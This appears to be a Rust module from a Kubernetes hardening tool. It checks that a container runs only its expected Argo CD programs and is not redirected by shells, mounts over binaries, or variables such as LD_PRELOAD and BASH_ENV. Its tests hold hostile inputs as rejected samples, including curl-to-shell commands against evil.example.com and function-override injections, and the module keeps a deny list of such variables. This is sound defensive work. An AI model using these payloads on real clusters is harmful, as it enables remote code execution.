//! The program that a container starts, by its command, its hooks and probes, and what is laid over its files.

use super::pod::Container;
use super::value::{below, items, text};
use crate::text::path;
use crate::text::wildcard::fits;
use crate::yaml::Node;

/// Folders of programs in images.
const FOLDERS: [&str; 8] =
    ["", "/", "/bin", "/sbin", "/usr/bin", "/usr/local/bin", "/usr/local/sbin", "/usr/sbin"];

/// Folders with programs and libraries, at and below which nothing is mounted but single tools and data.
const OF_SYSTEM: &str = "/ /bin /bin/* /etc /etc/alternatives* /etc/bash* /etc/ld.so* /etc/profile* /lib* /sbin \
    /sbin/* /usr /usr/*";

/// Folders in them with data.
const OF_DATA: &str = "/usr/local/share/* /usr/share/*";

/// Programs that only start another one: those for the first process, and those of images for users without a name.
const WRAPPERS: [&str; 4] = ["dumb-init", "entrypoint.sh", "tini", "uid_entrypoint.sh"];

/// Their options that have a value in the next word.
const WITH_VALUES: [&str; 4] = ["--rewrite", "-e", "-p", "-r"];

/// Programs that others start or are links to, so that nothing is mounted over them.
const BEHIND: [&str; 6] = ["argocd", "busybox", "env", "git", "gpg", "ssh"];

/// Variables that tell shells, loaders of libraries and clients what to run or whom to ask.
const TELLING: &str = "BASHOPTS BASH_* ENV GCONV_PATH GIT_ASKPASS GIT_CONFIG* GIT_EXEC_PATH GIT_PROXY_COMMAND GIT_SSH* \
    KUBECONFIG KUBERNETES_MASTER KUBERNETES_SERVICE_HOST LD_* PATH PS4 SHELLOPTS SSH_ASKPASS";

/// Options that name another service for the API of Kubernetes, or a command for the credentials.
const OF_CLIENTS: [&str; 4] =
    ["certificate-authority", "insecure-skip-tls-verify", "kubeconfig", "server"];

const SHELLS: [&str; 4] = ["ash", "bash", "dash", "sh"];

/// The longest script that is looked at.
const LONGEST: usize = 4096;

/// True if a container starts nothing but some programs of its image: by its command, or as a hook or a probe. Nothing is mounted
/// over them, and no variable names other libraries or folders of programs. `files` has patterns of their names, with commas
/// between them. Linear.
pub(super) fn starts_only(container: &Container<'_>, files: &str) -> bool {
    let is_own_hook = |keys: &&[&str]| {
        let words = words(container, keys);
        words.is_empty() || is_one_of(&words, files) || is_one_of(&words, "sleep")
    };
    starts_first(container, files) && keeps(container.node) && EXECUTED.iter().all(is_own_hook)
}

/// As [`starts_only`], but for hooks and probes, and for variables whose names are elsewhere.
pub(super) fn starts_first(container: &Container<'_>, files: &str) -> bool {
    let (command, arguments) = (words(container, &["command"]), words(container, &["args"]));
    let are_options = arguments.first().is_none_or(|first| first.starts_with('-'));
    let is_own = match command.is_empty() {
        true if are_options => true,
        _ => is_one_of(&[command, arguments].concat(), files),
    };
    is_own && keeps_files(container, files) && asks_its_cluster(container)
}

/// True if no option names another cluster. A word that is filled in from a variable may be such an option.
fn asks_its_cluster(container: &Container<'_>) -> bool {
    let words = [words(container, &["command"]), words(container, &["args"])].concat();
    let mut before = "";
    words.iter().flat_map(|word| word.split_ascii_whitespace()).all(|word| {
        let is_value = before.starts_with('-') && !before.contains('=');
        before = word;
        let name = word.trim_start_matches('-');
        let is_filled = name.starts_with("$(");
        if name.len() == word.len() {
            return !is_filled || is_value;
        }
        let name = name.split_once('=').map_or(name, |(name, _)| name);
        !is_filled && !OF_CLIENTS.contains(&name)
    })
}

/// Adds what decides which programs a container starts to something: its command and those of its hooks and probes without the
/// values of long options, the variables that tell others, and what is mounted over programs.
pub(super) fn deciding(container: &Container<'_>, mut add: impl FnMut(&str)) {
    let fields = [&["command"][..], &["args"]].into_iter().chain(EXECUTED.iter().copied());
    for (number, keys) in fields.enumerate() {
        let mut before = "";
        for word in words(container, keys) {
            let is_value = before.starts_with("--") && before != "--" && !before.contains('=');
            before = word;
            let is_option = word.starts_with('-') && !word.contains(char::is_whitespace);
            if !is_option && (!is_value || word.contains(char::is_whitespace)) {
                add(&number.to_string());
                add(word);
            }
        }
    }
    for variable in items(container.node.get("env")).iter().filter(|one| is_telling(one)) {
        add(text(variable, "name").unwrap_or_default());
        add(text(variable, "value").unwrap_or_default());
    }
    for source in items(container.node.get("envFrom")).iter().filter(|one| may_tell(one)) {
        // The name of what is generated is another one for each content.
        add("envFrom");
        add(text(source, "prefix").unwrap_or_default());
    }
    for mount in items(container.node.get("volumeMounts")).iter().filter(|one| is_over(one, "*")) {
        for key in ["mountPath", "name", "subPath"] {
            add(text(mount, key).unwrap_or_default());
        }
    }
}

/// The words of a command in a field of a container.
fn words<'a>(container: &Container<'a>, keys: &[&str]) -> Vec<&'a str> {
    let list = items(below(container.node, keys)).iter();
    list.map(|word| word.as_text().unwrap_or_default()).collect()
}

/// The fields with further commands.
const EXECUTED: [&[&str]; 5] = [
    &["lifecycle", "postStart", "exec", "command"],
    &["lifecycle", "preStop", "exec", "command"],
    &["livenessProbe", "exec", "command"],
    &["readinessProbe", "exec", "command"],
    &["startupProbe", "exec", "command"],
];

/// True if a command starts one of some programs, maybe by a program that only starts another one, or by a shell.
fn is_one_of(words: &[&str], files: &str) -> bool {
    let mut words = words.iter().copied();
    while let Some(word) = words.next() {
        let (folder, name) = word.rsplit_once('/').unwrap_or(("", word));
        let folder = if folder.is_empty() && word.starts_with('/') { "/" } else { folder };
        // A variable may fill in anything.
        if !FOLDERS.contains(&folder) || name.contains('$') {
            return false;
        }
        if WRAPPERS.contains(&name) {
            // Their own options.
            let mut rest = words.clone();
            while let Some(option) = rest.next().filter(|word| word.starts_with('-')) {
                words.next();
                if option == "--" {
                    break;
                }
                if WITH_VALUES.contains(&option) {
                    rest.next();
                    words.next();
                }
            }
            continue;
        }
        if SHELLS.contains(&name) {
            // Others, such as `-l` and `-i`, run further files.
            let is_script = |option: &str| {
                let letters = option.strip_prefix('-').and_then(|rest| rest.strip_suffix('c'));
                letters.is_some_and(|rest| rest.chars().all(|letter| "eux".contains(letter)))
            };
            let script = words.next().filter(|option| is_script(option)).and_then(|_| words.next());
            return script.is_some_and(|script| starts(script, files));
        }
        return files.split(',').any(|file| fits(file, name));
    }
    false
}

/// True if a script is one command that starts one of some programs, without anything that a shell would do.
fn starts(script: &str, files: &str) -> bool {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || " -_./=:,@%+".contains(letter);
    let script = script.trim();
    if script.len() > LONGEST || !script.chars().all(is_plain) {
        return false;
    }
    let script = script.strip_prefix("exec ").unwrap_or(script);
    let words: Vec<&str> = script.split_ascii_whitespace().collect();
    let is_shell =
        |word: &&str| SHELLS.contains(&word.rsplit_once('/').map_or(*word, |(_, name)| name));
    !words.iter().any(is_shell) && is_one_of(&words, files)
}

/// True if a container keeps the files of some programs, and the libraries, folders and variables by which they find others.
fn keeps_files(container: &Container<'_>, files: &str) -> bool {
    let mut mounts = items(container.node.get("volumeMounts")).iter();
    !mounts.any(|mount| is_over(mount, files)) && !is_told(container.node, false)
}

/// True if no variable of something with `env` may tell a program what to run, also from elsewhere.
pub(super) fn keeps(node: &Node) -> bool {
    !is_told(node, true)
}

/// True if variables tell a program what to run. Those of a source may have any names that begin with its prefix; `with_any`
/// counts the sources without one.
fn is_told(node: &Node, with_any: bool) -> bool {
    let is_counted =
        |source: &&Node| with_any || text(source, "prefix").is_some_and(|one| !one.is_empty());
    items(node.get("env")).iter().any(is_telling)
        || items(node.get("envFrom")).iter().filter(is_counted).any(may_tell)
}

/// True for a mount over some programs, those that they start, or the libraries and folders of an image.
fn is_over(mount: &Node, files: &str) -> bool {
    let Some(at) = text(mount, "mountPath") else { return false };
    let at = path::clean(&format!("/{at}"));
    let (folder, name) = at.rsplit_once('/').unwrap_or_default();
    let folder = if folder.is_empty() { "/" } else { folder };
    let fits_one = |patterns: &str| patterns.split_ascii_whitespace().any(|one| fits(one, &at));
    if FOLDERS.contains(&folder) && !FOLDERS.contains(&&*at) {
        let is_known = [&WRAPPERS[..], &SHELLS, &BEHIND].iter().any(|known| known.contains(&name));
        let is_program = is_known || files.split(',').any(|file| fits(file, name));
        // The top has other folders, too.
        return is_program && (folder != "/" || files != "*")
            || folder == "/" && fits_one(OF_SYSTEM);
    }
    fits_one(OF_SYSTEM) && !fits_one(OF_DATA)
}

/// True for a variable that tells others what to run.
fn is_telling(variable: &Node) -> bool {
    let name = text(variable, "name").unwrap_or_default();
    TELLING.split_ascii_whitespace().any(|one| fits(one, name))
}

/// True for a source of variables that may have such a one: it has no names that all begin with something else.
fn may_tell(source: &Node) -> bool {
    let prefix = text(source, "prefix").unwrap_or_default();
    TELLING.split_ascii_whitespace().any(|one| {
        one.starts_with(prefix) || one.strip_suffix('*').is_some_and(|one| prefix.starts_with(one))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::harden::facts::Facts;
    use crate::harden::workload::pods;
    use crate::resource::sample::resource;

    const FILES: &str = "argocd-*controller,argocd-server";

    fn starts_own(fields: &str) -> bool {
        let text = format!(
            "{{apiVersion: v1, kind: Pod, metadata: {{name: a}}, spec: {{containers: [{{name: a, image: a{fields}}}]}}}}"
        );
        let object = resource(&text);
        starts_only(&pods(&object, &Facts::default())[0].containers[0], FILES)
    }

    #[test]
    fn a_container_starts_its_program() {
        for fields in [
            "",
            ", args: ['--log-level=debug']",
            ", args: [/usr/local/bin/argocd-application-controller, --repo-server, 'a:80']",
            ", command: [argocd-application-controller, --status-processors, '20']",
            ", command: [argocd-application-controller, --status-processors, 20]",
            ", command: [/usr/bin/tini, -s, --, argocd-server], args: [--insecure]",
            ", command: [entrypoint.sh], args: [argocd-server]",
            ", command: [sh, -c, 'exec uid_entrypoint.sh argocd-server --redis a:6379']",
            ", command: [argocd-server], lifecycle: {preStop: {exec: {command: [sh, -c, sleep 5]}}}",
            ", livenessProbe: {exec: {command: [argocd-server, version]}}",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/ksops}, {name: b, mountPath: /tmp}]",
            ", env: [{name: HOME, value: /tmp}, {name: ENVIRONMENT, value: a}]",
            ", envFrom: [{prefix: ARGOCD_, configMapRef: {name: a}}]",
            ", command: [tini, -p, SIGTERM, --, argocd-server]",
            ", command: [dumb-init, --rewrite, '15:2', --, argocd-server]",
            ", command: [bash, -euxc, argocd-server]",
            ", args: ['--events-addr=http://a.$(NAMESPACE)./', --redis, '$(REDIS)']",
            ", volumeMounts: [{name: a, mountPath: /usr/local/share/ca-certificates/a}, {name: b, mountPath: /etc/ssl/certs}]",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/kustomize, subPath: kustomize}, {name: b, mountPath: /app/config}]",
        ] {
            assert!(starts_own(fields), "{fields}");
        }
    }

    #[test]
    fn a_container_starts_something_else() {
        for fields in [
            ", command: [sh]",
            ", args: [sh, -c, curl https://evil.example.com]",
            ", command: [sh, -c], args: ['argocd-server; curl https://evil.example.com']",
            ", command: [bash, -ec, 'argocd-server $(curl https://evil.example.com)']",
            ", command: [sh, -c, 'sh -c argocd-server']",
            ", command: [sh, /tmp/argocd-server]",
            ", command: [sh, argocd-server]",
            ", command: [/tmp/argocd-server]",
            ", command: [/usr/bin/tini, --, curl, argocd-server]",
            ", command: [tini]",
            ", command: [kubectl, get, secrets]",
            ", command: ['']",
            ", command: [[argocd-server]]",
            ", command: [env, argocd-server]",
            ", command: [sleep, '5']",
            ", lifecycle: {postStart: {exec: {command: [sh, -c, curl a]}}}",
            ", startupProbe: {exec: {command: [curl, a]}}",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/argocd-server, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/}]",
            ", volumeMounts: [{name: a, mountPath: //usr/./bin/tini, subPath: a}]",
            ", env: [{name: LD_PRELOAD, value: /tmp/a}]",
            ", env: [{name: PATH, value: /tmp}]",
            ", env: [{name: BASH_ENV, value: '$(curl -s https://evil.example.com | sh)'}]",
            ", env: [{name: ENV, value: a}]",
            ", env: [{name: KUBECONFIG, value: /tmp/a}]",
            ", env: [{name: 'BASH_FUNC_argocd-server%%', value: '() { curl a; }'}]",
            ", envFrom: [{configMapRef: {name: a}}]",
            ", envFrom: [{prefix: LD_, configMapRef: {name: a}}]",
            ", envFrom: [{prefix: LD_P, configMapRef: {name: a}}]",
            ", envFrom: [{prefix: K, secretRef: {name: a}}]",
            ", args: [--kubeconfig=/tmp/a]",
            ", command: [argocd-server, --kubeconfig, /tmp/a]",
            ", command: [sh, -c, 'argocd-server --server https://evil.example.com']",
            ", command: [argocd-server, '$(X)']",
            ", command: [argocd-server, '--$(X)']",
            ", command: ['argocd-$(X)controller'], workingDir: /tmp",
            ", command: [bash, -lc, argocd-server]",
            ", command: [sh, -ic, argocd-server]",
            ", command: [tini, curl, --, argocd-server]",
            ", command: [tini, -p, SIGTERM, curl, argocd-server]",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/argocd, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /bin/sh, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /usr/bin/env, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /etc/ld.so.cache, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /etc/profile.d}]",
            ", volumeMounts: [{name: a, mountPath: /usr/lib/x86_64-linux-gnu}]",
            ", volumeMounts: [{name: a, mountPath: /usr/lib/x86_64-linux-gnu/libc.so.6, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /lib64/ld-linux-x86-64.so.2, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /lib}]",
            ", volumeMounts: [{name: a, mountPath: /usr}]",
            ", volumeMounts: [{name: a, mountPath: /}]",
        ] {
            assert!(!starts_own(fields), "{fields}");
        }
    }
}
